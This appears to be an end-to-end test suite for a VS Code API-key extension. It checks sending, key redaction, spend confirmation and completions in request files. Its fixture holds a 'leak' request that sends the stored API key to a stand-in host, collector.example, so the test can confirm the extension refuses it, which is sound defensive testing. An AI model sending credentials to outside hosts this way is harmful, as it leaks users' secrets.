// Request files in the workbench against the sandbox: the CodeLens a person clicks, the answer document, the
// spend confirmation, diagnostics and completions. Keys come from SecretStorage; the file never holds one.
import * as assert from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import * as vscode from 'vscode';
import { Commands } from '../../src/constants';
import type { RingKeysApi } from '../../src/extension';
import { addKeyThroughUi, answer, clearNotifications, dialogText, NO_UI_BRIDGE, removeKeyThroughUi, sandbox, startOnFreshSandbox, ui, waitFor, writeInWorkspace } from './util';
import { allowSkips } from './skips';
import { chooseEndpoint, waitText } from './testerUi';

const SKIPS = allowSkips(__filename, { desktop: NO_UI_BRIDGE });

const FILE = [
  '### workspace',
  'GET https://prod-api.ringg.ai/ca/api/v0/workspace',
  'x-api-key: {{RINGG_API_KEY}}',
  '',
  '?? status == 200',
  '?? js response.parsedBody.workspace_info.name == Sandbox Workspace',
  '',
  '### call',
  'POST https://prod-api.ringg.ai/ca/api/v0/calling/outbound/individual',
  'x-api-key: {{RINGG_API_KEY}}',
  'Content-Type: application/json',
  '',
  '{"name":"A","mobile_number":"+14155550123","agent_id":"x","from_number":"+14155550100"}',
  '',
  '### leak',
  'GET https://collector.example/x',
  'x-api-key: {{RINGG_API_KEY}}',
  '',
].join('\n');
const CALL_LINE = 8;
const LEAK_LINE = 15;

describe('request files: CodeLens send against the sandbox', function () {
  let api: RingKeysApi;
  let ringgKey: string;
  let uri: vscode.Uri;
  const made: string[] = [];
  const added: string[] = [];

  before(async function () {
    ({ api, ringgKey } = await startOnFreshSandbox(this, SKIPS.desktop));
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    added.push(await addKeyThroughUi('Ringg AI', 'Http files', ringgKey));
    await clearNotifications();
    writeInWorkspace(made, 'requests/smoke.http', FILE);
    uri = vscode.Uri.file(path.join(vscode.workspace.workspaceFolders![0].uri.fsPath, 'requests', 'smoke.http'));
  });

  after(async () => {
    if (!ui.available || !sandbox.origin) { return; }
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    await clearNotifications();
    const root = vscode.workspace.workspaceFolders![0].uri.fsPath;
    for (const rel of made) { fs.rmSync(path.join(root, rel), { force: true }); }
    fs.rmSync(path.join(root, 'requests'), { recursive: true, force: true });
    for (const id of added) {
      const name = api.profiles().find(p => p.id === id)?.name;
      if (name) { await removeKeyThroughUi(id, name); }
    }
    await clearNotifications();
  });

  it('clicking "Send Request" sends with the stored key and shows the answer, assertions checked, the key nowhere', async () => {
    const doc = await vscode.workspace.openTextDocument(uri);
    assert.strictEqual(doc.languageId, 'http');
    await vscode.window.showTextDocument(doc);
    const lens = '.contentWidgets .codelens-decoration a';
    await waitFor('the CodeLens', async () => (await ui.texts(lens)).filter(t => /Send Request/.test(t)).length >= 3);
    assert.ok((await ui.texts(lens)).some(t => /Send All \(3\)/.test(t)));
    const before = api.httpFiles().length;
    const gets = async () => (await sandbox.state()).requests.filter(r => r === 'GET /ca/api/v0/workspace').length;
    const sent = await gets();
    await ui.click(`${lens}:has-text("Send Request") >> nth=0`);
    const text = await waitFor('the answer', () => api.httpFiles().length > before && api.httpFiles().at(-1));
    assert.match(text, /HTTP 200/);
    assert.match(text, /✔ \?\? js response.parsedBody.workspace_info.name == Sandbox Workspace/);
    assert.match(text, /"api_key": "\[REDACTED\]"/);
    assert.ok(!text.includes(ringgKey), 'the key is not in the answer');
    assert.strictEqual(await gets(), sent + 1);
    await waitFor('the answer document', () => vscode.window.visibleTextEditors.some(e => e.document.uri.scheme === 'ring-keys-response'));
    const shown = vscode.window.visibleTextEditors.find(e => e.document.uri.scheme === 'ring-keys-response')!.document.getText();
    assert.ok(shown.includes('Sandbox Workspace') && !shown.includes(ringgKey));
    await ui.screenshot('http-files-codelens-answer');
  });

  it('a credit-spending request asks first, as the tester does, and is sent on Send', async () => {
    const calls = async () => (await sandbox.state()).requests.filter(r => r === 'POST /ca/api/v0/calling/outbound/individual').length;
    const start = await calls();
    const sent = vscode.commands.executeCommand<Array<{ state: string }>>(Commands.sendHttpRequest, uri, CALL_LINE);
    await waitFor('the confirmation', async () => /Send POST \/calling\/outbound\/individual with the live key "Http files"/.test(await dialogText()));
    assert.strictEqual(await calls(), start, 'nothing is sent before the answer');
    await ui.screenshot('http-files-spend-confirmation');
    await answer('Send', 'outbound');
    assert.strictEqual((await sent)[0].state, 'passed');
    assert.strictEqual(await calls(), start + 1);
    await clearNotifications();
  });

  it('a key next to another host is an error in the Problems panel, and sending it is refused', async () => {
    const diags = await waitFor('the diagnostic', () => {
      const d = vscode.languages.getDiagnostics(uri).filter(x => x.code === 'keyForOtherHost');
      return d.length ? d : undefined;
    });
    assert.strictEqual(diags[0].range.start.line, LEAK_LINE);
    assert.match(diags[0].message, /Ringg AI key: it is only sent to/);
    const before = (await sandbox.state()).requests.length;
    const out = await vscode.commands.executeCommand<Array<{ state: string; message?: string }>>(Commands.sendHttpRequest, uri, LEAK_LINE);
    assert.strictEqual(out[0].state, 'refused');
    assert.ok(!(out[0].message ?? '').includes(ringgKey));
    assert.strictEqual((await sandbox.state()).requests.length, before);
  });

  it('completes the key variables after {{', async () => {
    const doc = await vscode.workspace.openTextDocument({ language: 'http', content: 'GET https://api.ringyo.ai/v1/agents\nAuthorization: Bearer {{RI' });
    const list = await vscode.commands.executeCommand<vscode.CompletionList>('vscode.executeCompletionItemProvider', doc.uri, new vscode.Position(1, 25));
    const labels = list.items.map(i => typeof i.label === 'string' ? i.label : i.label.label);
    for (const k of ['RINGG_API_KEY', 'RINGYO_API_KEY', 'RINGTONIC_API_KEY']) { assert.ok(labels.includes(k), `${k} in ${labels.slice(0, 20).join(', ')}`); }
  });

  it('"Save as .http" in the Request Tester opens the request as a request file: the key a variable, never the key', async () => {
    await vscode.commands.executeCommand(Commands.openRequestTester);
    await waitText('the tester', '#endpoints', /GET|POST/);
    await ui.click('label[for="provider-ringg"]', true);
    await chooseEndpoint('workspace info', 'ringg_workspace_info');
    await waitText('the endpoint detail', '#endpoint-title', /GET\s+\/workspace$/);
    await ui.click('#save-http', true);
    const doc = await waitFor('the request file', () => vscode.workspace.textDocuments.find(d => d.isUntitled && d.languageId === 'http' && /\/workspace/.test(d.getText())));
    const text = doc.getText();
    assert.match(text, /^GET https:\/\/prod-api\.ringg\.ai\/ca\/api\/v0\/workspace$/m);
    assert.match(text, /^x-api-key: \{\{RINGG_API_KEY\}\}$/m);
    assert.ok(!text.includes(ringgKey));
    await ui.screenshot('http-files-save-as-http');
  });
});
